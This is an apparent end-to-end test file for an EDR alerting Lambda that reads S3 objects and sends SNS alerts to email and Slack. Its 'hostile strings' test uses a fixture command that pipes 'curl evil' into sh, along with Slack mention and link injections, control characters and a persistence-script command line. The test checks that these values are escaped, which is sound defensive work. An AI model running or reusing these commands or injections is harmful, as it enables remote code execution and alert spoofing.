/**
 * End to end against a real S3/SNS/SQS API server (fauxqs in-process on 127.0.0.1): objects are
 * uploaded, the processing runs on every trigger shape, alerts go through SNS to a subscribed
 * queue and are read back. Publish inputs are captured too, because fauxqs delivers the whole
 * MessageStructure JSON rather than each protocol's rendering.
 */
import assert from "node:assert/strict";
import { after, before, beforeEach, describe, test } from "node:test";
import { CreateBucketCommand, GetObjectCommand, S3Client } from "@aws-sdk/client-s3";
import { SNSClient } from "@aws-sdk/client-sns";
import { LOCAL_CREDENTIALS, type LocalStack, startLocalStack } from "../../src/lambda/local-stack.ts";
import { type Deps, processEvent, type Summary } from "../../src/lambda/process.ts";
import { createRuntime } from "../../src/lambda/runtime.ts";
import {
  benignRecord,
  capturePublishes,
  defendRecord,
  gz,
  manifest,
  recordingLogger,
  recordingMetrics,
  s3Record,
  sampleEvent,
  sqsBatch,
  uploadSamples,
} from "../fixtures/lambda/e2e.ts";

let stack: LocalStack;

before(async () => {
  stack = await startLocalStack();
  await uploadSamples(stack);
});
after(async () => {
  await stack.stop();
});
beforeEach(async () => {
  await stack.received(); // each test starts with an empty inbox
});

function setup(options: { s3?: S3Client; sns?: SNSClient } = {}) {
  const common = { endpoint: stack.endpoint, region: stack.region, credentials: LOCAL_CREDENTIALS };
  const sns = options.sns ?? new SNSClient(common);
  const s3 = options.s3 ?? new S3Client({ ...common, forcePathStyle: true });
  const publishes = capturePublishes(sns);
  const logger = recordingLogger();
  const metrics = recordingMetrics();
  return { s3, sns, publishes, logger, metrics };
}

async function deps(s: ReturnType<typeof setup>, env: Record<string, string> = {}): Promise<Deps> {
  const rt = await createRuntime({
    env: { ...stack.env, ...env },
    clients: { s3: s.s3, sns: s.sns },
    logger: s.logger,
    metrics: s.metrics,
  });
  return rt.deps;
}

const HOSTS = ["web-7", "linux-desktop-S1", "db-3"];

describe("every trigger shape in events/ scans the sample objects and alerts", () => {
  const shapes: [string, string, number][] = [
    ["s3-put.json", "summary", 3],
    ["sqs-s3.json", "sqs", 3],
    ["sns-s3.json", "summary", 3],
    ["sqs-sns-s3.json", "sqs", 3],
    ["sqs-sns-raw-s3.json", "sqs", 3],
    ["eventbridge-object-created.json", "summary", 1],
    ["sqs-eventbridge.json", "sqs", 3],
    ["backfill-batch.json", "summary", 3],
  ];
  for (const [file, kind, objects] of shapes) {
    test(file, async () => {
      const s = setup();
      const result = await processEvent(sampleEvent(file), await deps(s));
      if (kind === "sqs") assert.deepEqual(result, { batchItemFailures: [] });
      else {
        const { results, ...totals } = result as Summary;
        assert.deepEqual(totals, {
          objects,
          records: objects === 3 ? 15 : 4,
          malformed: 0,
          alerts: objects === 3 ? 4 : 1,
          failed: [],
        });
        // Only a back-scan batch lists each object's outcome (the state machine needs it).
        if (file === "backfill-batch.json") {
          assert.deepEqual(
            results?.map((r) => r.outcome),
            ["scanned", "scanned", "scanned"],
          );
          assert.equal(
            results?.reduce((n, r) => n + r.records, 0),
            15,
          );
        } else assert.equal(results, undefined);
      }
      const got = await stack.received();
      assert.equal(got.length, objects, "one message per object (one rule)");
      assert.deepEqual(got.map((m) => m.attributes["host"]).sort(), HOSTS.slice(0, objects).sort());
      for (const m of got) {
        assert.match(m.subject ?? "", /^\[low\] NetworkManager Dispatcher Script Creation on /);
        const body = JSON.parse(m.structure["default"]!);
        assert.ok(
          manifest.some((x) => body.object === `s3://${x.bucket}/${x.key}`),
          body.object,
        );
      }
      assert.equal(s.metrics.values["ObjectsScanned"], objects);
    });
  }

  test("s3:TestEvent alone: nothing scanned, nothing published", async () => {
    const s = setup();
    const result = await processEvent(sampleEvent("s3-test-event.json"), await deps(s));
    assert.deepEqual(result, { objects: 0, records: 0, malformed: 0, alerts: 0, failed: [] });
    assert.equal(s.publishes.length, 0);
    assert.ok(
      s.logger.entries.some((e) => e.message === "notification skipped" && e["reason"] === "s3:TestEvent"),
    );
  });
});

test("keys with spaces, '=' and '+' are decoded from the notification and read back", async () => {
  const key = "odd keys/host=web 7/a+b%41 c.ndjson";
  await stack.upload(key, `${defendRecord(1)}\n${benignRecord(2)}\n`);
  const s = setup();
  const result = await processEvent(sqsBatch([{ Records: [s3Record(stack.bucket, key)] }]), await deps(s));
  assert.deepEqual(result, { batchItemFailures: [] });
  const [m, ...rest] = await stack.received();
  assert.equal(rest.length, 0);
  const body = JSON.parse(m!.structure["default"]!);
  assert.equal(body.object, `s3://${stack.bucket}/${key}`);
  assert.equal(body.alerts[0].source.record, 1);
  assert.deepEqual(body.counts, {
    records: 2,
    malformed: 0,
    skipped: 0,
    alerts: 1,
    in_message: 1,
    not_listed: 0,
    part: 1,
    parts: 1,
  });
});

test("SQS batch with a missing object: counted and logged, not a batch failure; the others publish", async () => {
  const s = setup();
  const event = sqsBatch([
    { Records: [s3Record(stack.bucket, "gone/never-uploaded.ndjson.gz")] },
    { Records: [s3Record(stack.bucket, manifest[0]!.key, manifest[0]!.eTag)] },
  ]);
  const result = await processEvent(event, await deps(s));
  assert.deepEqual(result, { batchItemFailures: [] });
  const got = await stack.received();
  assert.equal(got.length, 1);
  const missing = s.logger.entries.find((e) => e.message === "object not scanned");
  assert.ok(missing, "logged");
  assert.equal(missing["outcome"], "missing");
  assert.match(String(missing["reason"]), /NoSuchKey|404/);
  assert.equal(s.metrics.values["ObjectFailures"], 1);
});

test("SQS batch where S3 fails transiently for one object: only that message is retried", async () => {
  const s3 = new S3Client({
    endpoint: stack.endpoint,
    region: stack.region,
    credentials: LOCAL_CREDENTIALS,
    forcePathStyle: true,
  });
  s3.middlewareStack.add(
    (next, context) => async (args) => {
      const input = args.input as { Key?: string };
      if (context.commandName === "GetObjectCommand" && input.Key === manifest[1]!.key) {
        throw Object.assign(new Error("Please reduce your request rate."), {
          name: "SlowDown",
          $metadata: { httpStatusCode: 503 },
        });
      }
      return next(args);
    },
    { step: "initialize", name: "throttle" },
  );
  const s = setup({ s3 });
  const result = await processEvent(sampleEvent("sqs-s3.json"), await deps(s));
  assert.deepEqual(result, {
    batchItemFailures: [{ itemIdentifier: "00000000-0000-4000-8000-000000000002" }],
  });
  const got = await stack.received();
  assert.deepEqual(got.map((m) => m.attributes["host"]).sort(), ["db-3", "web-7"]);
  const failed = s.logger.entries.find((e) => e.message === "object failed, will be retried");
  assert.match(String(failed?.["reason"]), /SlowDown \(HTTP 503\)/);
});

test("a transient failure of a direct S3 invocation throws, so Lambda retries it", async () => {
  const s = setup({
    sns: new SNSClient({
      endpoint: "http://127.0.0.1:9",
      region: "us-east-1",
      credentials: LOCAL_CREDENTIALS,
      maxAttempts: 1,
    }),
  });
  await assert.rejects(
    processEvent(sampleEvent("eventbridge-object-created.json"), await deps(s)),
    /failed transiently and will be retried/,
  );
});

test("the Publish input carries every protocol's rendering, subject and attributes", async () => {
  const s = setup();
  await processEvent(sampleEvent("eventbridge-object-created.json"), await deps(s));
  assert.equal(s.publishes.length, 1);
  const { name, input } = s.publishes[0]!;
  assert.equal(name, "PublishCommand");
  assert.equal(input["MessageStructure"], "json");
  assert.equal(input["TopicArn"], stack.topicArn);
  assert.equal(input["Subject"], "[low] NetworkManager Dispatcher Script Creation on web-7");
  assert.deepEqual(input["MessageAttributes"], {
    rule_id: { DataType: "String", StringValue: "86aa8579-1526-4dff-97cd-3635eb0e0545" },
    severity: { DataType: "String", StringValue: "low" },
    host: { DataType: "String", StringValue: "web-7" },
  });
  const structure = JSON.parse(String(input["Message"]));
  // Once, under default: SNS gives it to SQS, Lambda and email-json subscribers.
  assert.deepEqual(Object.keys(structure).sort(), ["default", "email", "https"]);
  {
    const body = JSON.parse(structure.default);
    assert.equal(body.object, `s3://edr-archive-bucket/${manifest[0]!.key}`);
    assert.equal(body.alerts.length, 1);
    assert.equal(body.alerts[0].event["file.path"], "/etc/NetworkManager/dispatcher.d/99-persist.sh");
    assert.equal(typeof body.alerts[0].raw, "object");
  }
  const email: string = structure.email;
  assert.match(email, /^ALERT: NetworkManager Dispatcher Script Creation\n/);
  assert.match(email, /File: {4}\/etc\/NetworkManager\/dispatcher\.d\/99-persist\.sh/);
  assert.match(email, /Command: bash -c cat > \/etc\/NetworkManager\/dispatcher\.d\/99-persist\.sh/);
  assert.match(email, /TA0003 Persistence/);
  const chatbot = JSON.parse(structure.https);
  assert.equal(chatbot.version, "1.0");
  assert.equal(chatbot.source, "custom");
  assert.equal(chatbot.content.textType, "client-markdown");
  assert.match(chatbot.content.title, /\[low\] NetworkManager Dispatcher Script Creation on web-7/);
  assert.match(chatbot.content.description, /cmd `bash -c cat &gt; \/etc\/NetworkManager/);
});

test("hostile strings: escaped in email and Slack, raw in JSON, through a real publish", async () => {
  const hostile = {
    host: "web-7\u202e<!channel>",
    path: "/etc/NetworkManager/dispatcher.d/x`\nFAKE LINE <http://evil.example|click>",
    cmd: "sh -c 'curl evil | sh' @here <@U123> \u001b[2J",
    user: "root\u0000",
  };
  await stack.upload("hostile/one.ndjson", `${defendRecord(1, hostile)}\n`);
  const s = setup();
  const result = await processEvent(
    sqsBatch([{ Records: [s3Record(stack.bucket, "hostile/one.ndjson")] }]),
    await deps(s),
  );
  assert.deepEqual(result, { batchItemFailures: [] });
  const [m] = await stack.received();
  const body = JSON.parse(m!.structure["default"]!);
  assert.equal(body.alerts[0].event["host.name"], hostile.host, "JSON keeps the raw value");
  assert.equal(body.alerts[0].event["process.command_line"], hostile.cmd);
  const email = m!.structure["email"]!;
  assert.doesNotMatch(email, /[\u0000-\u0009\u000b-\u001f\u202e]/);
  assert.ok(!email.split("\n").some((l) => l.startsWith("FAKE LINE")));
  assert.match(email, /web-7\\u202e<!channel>/);
  const chatbot = JSON.parse(m!.structure["https"]!);
  const slack = JSON.stringify(chatbot.content);
  assert.doesNotMatch(slack, /<!channel>|<@U123>|<http/);
  assert.doesNotMatch(slack, /(^|[^＠])@here/);
  assert.match(m!.subject ?? "", /^[\x20-\x7e]{1,100}$/);
  assert.match(m!.attributes["host"] ?? "", /^[\x20-\x7e]+$/);
});

test("many hits in one object, cap raised: messages sent as they fill, under 256 KiB, every hit delivered once", async () => {
  const n = 2500;
  const lines = Array.from({ length: n }, (_, i) =>
    defendRecord(i + 1, { cmd: `bash -c 'install hook ${i}' ${"x".repeat(200)}` }),
  );
  await stack.upload("bulk/many-hits.ndjson.gz", gz(lines));
  const s = setup();
  const result = await processEvent(
    sqsBatch([{ Records: [s3Record(stack.bucket, "bulk/many-hits.ndjson.gz")] }]),
    await deps(s, { MAX_HITS_PER_RULE: String(n) }),
  );
  assert.deepEqual(result, { batchItemFailures: [] });
  const got = await stack.received();
  assert.ok(got.length > 1, `${got.length} messages`);
  const records = got.flatMap((m) =>
    JSON.parse(m.structure["default"]!).alerts.map((a: { source: { record: number } }) => a.source.record),
  );
  assert.equal(records.length, n);
  assert.equal(new Set(records).size, n);
  // Every message but the last is sent while the scan goes on: they say more may follow.
  const bodies = got.map((m) => JSON.parse(m.structure["default"]!));
  const last = bodies.filter((b) => b.counts.parts !== null);
  assert.equal(last.length, 1, "one message with the totals");
  assert.equal(last[0].counts.alerts, n);
  assert.equal(last[0].counts.parts, got.length);
  assert.equal(last[0].counts.records, n);
  for (const p of s.publishes) {
    const entries = (p.name === "PublishCommand" ? [p.input] : p.input["PublishBatchRequestEntries"]) as {
      Message: string;
      Subject: string;
    }[];
    assert.ok(entries.length <= 10);
    const total = entries.reduce(
      (t, e) => t + Buffer.byteLength(e.Message) + Buffer.byteLength(e.Subject),
      0,
    );
    assert.ok(total <= 262_144, `batch total ${total}`);
    for (const e of entries) assert.ok(Buffer.byteLength(e.Message) < 262_144);
  }
  console.log(
    `# ${n} hits -> ${got.length} SNS messages in ${s.publishes.length} Publish/PublishBatch calls`,
  );
});

test("an alert flood: at most 100 hits per rule listed (default), the rest counted, every hit in the alerts bucket", async () => {
  const n = 1500;
  const lines = Array.from({ length: n }, (_, i) => defendRecord(i + 1));
  await stack.upload("bulk/flood.ndjson.gz", gz(lines));
  await stack.s3.send(new CreateBucketCommand({ Bucket: "edr-alert-copies" }));
  const s = setup();
  const result = await processEvent(
    { Records: [s3Record(stack.bucket, "bulk/flood.ndjson.gz")] },
    await deps(s, { ALERTS_BUCKET: "edr-alert-copies" }),
  );
  assert.deepEqual((result as { alerts: number }).alerts, n);
  const got = await stack.received();
  const bodies = got.map((m) => JSON.parse(m.structure["default"]!));
  const listed = bodies.flatMap((b) => b.alerts.map((a: { source: { record: number } }) => a.source.record));
  assert.deepEqual(
    listed,
    Array.from({ length: 100 }, (_, i) => i + 1),
    "the first 100 hits, in order",
  );
  const last = bodies.at(-1);
  assert.equal(last.counts.alerts, n);
  assert.equal(last.counts.not_listed, n - 100);
  assert.match(got.at(-1)!.structure["email"]!, new RegExp(`${n - 100} MORE HITS NOT LISTED`));
  // The message names the copy, and the copy holds every hit.
  const location =
    /^s3:\/\/edr-alert-copies\/(alerts\/rule=[^/]+\/dt=\d{4}-\d{2}-\d{2}\/[0-9a-f]{32}\.ndjson)$/.exec(
      String(last.alerts_location),
    );
  assert.ok(location, String(last.alerts_location));
  const copy = await stack.s3.send(new GetObjectCommand({ Bucket: "edr-alert-copies", Key: location[1] }));
  const copied = (await copy.Body!.transformToString())
    .trimEnd()
    .split("\n")
    .map((l) => JSON.parse(l));
  assert.deepEqual(
    copied.map((a) => a.source.record),
    Array.from({ length: n }, (_, i) => i + 1),
  );
  const logged = s.logger.entries.find((e) => e.message === "object scanned");
  assert.equal(logged?.["alerts"], n);
  assert.equal(logged?.["notListed"], n - 100);
});

test("a truncated gzip object: recovered hits published once, with the damage noted", async () => {
  const lines = [defendRecord(1), ...Array.from({ length: 3000 }, (_, i) => benignRecord(i))];
  const whole = gz(lines);
  await stack.upload("damaged/truncated.ndjson.gz", whole.subarray(0, Math.floor(whole.length * 0.6)));
  const s = setup();
  const event = {
    Items: [{ Key: "damaged/truncated.ndjson.gz", Size: 1 }],
    BatchInput: { bucket: stack.bucket },
  };
  const result = (await processEvent(event, await deps(s))) as {
    alerts: number;
    failed: { key: string; reason: string }[];
  };
  assert.equal(result.alerts, 1);
  assert.equal(result.failed.length, 1);
  assert.equal(result.failed[0]!.key, "damaged/truncated.ndjson.gz");
  assert.match(result.failed[0]!.reason, /corrupt-compressed-stream/);
  const got = await stack.received();
  assert.equal(got.length, 1);
  assert.equal(JSON.parse(got[0]!.structure["default"]!).failure.kind, "corrupt-compressed-stream");
  assert.match(got[0]!.structure["email"]!, /WARNING: the object could not be read to its end/);
});

test("backfill batch with a missing key: reported in failed, the rest scanned", async () => {
  const s = setup();
  const event = {
    Items: [
      { Key: "nope/missing.gz", Size: 10, Etag: '"abc"' },
      { Key: manifest[2]!.key, Size: manifest[2]!.size, Etag: `"${manifest[2]!.eTag}"` },
    ],
    BatchInput: { bucket: stack.bucket },
  };
  const result = await processEvent(event, await deps(s));
  assert.equal((result as { objects: number }).objects, 2);
  assert.equal((result as { alerts: number }).alerts, 1);
  const failed = (result as { failed: { key: string; reason: string }[] }).failed;
  assert.equal(failed.length, 1);
  assert.equal(failed[0]!.key, "nope/missing.gz");
  assert.match(failed[0]!.reason, /NoSuchKey|404/);
  assert.equal((await stack.received()).length, 1);
});
